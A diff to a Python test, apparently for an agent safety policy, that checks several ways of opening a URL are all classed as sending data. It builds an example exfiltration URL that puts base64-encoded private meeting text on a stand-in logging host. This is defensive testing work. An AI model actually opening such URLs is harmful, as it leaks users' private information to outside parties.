@@ -84,6 +84,7 @@ def test_it_is_the_same_however_the_address_is_opened() -> None:
     url = f"log.example/?d={b64('Meeting with Bob at five about the merger')}"
     bar = PolicyContext(app="chromium", title="Start", control=ADDRESS_BAR, met=Met())
     for action, context in (
-        (Launch(app="", url=f"https://{url}"), PLAIN), (Search(query=url), PLAIN), (TypeText(text=url, submit=True), bar),
+        (Launch(app="", url=f"https://{url}"), PLAIN), (Search(query=url), PLAIN),
+        (TypeText(text=url, submit=True), bar),
     ):  # fmt: skip
         assert Category.SEND in assess(action, context).categories, action
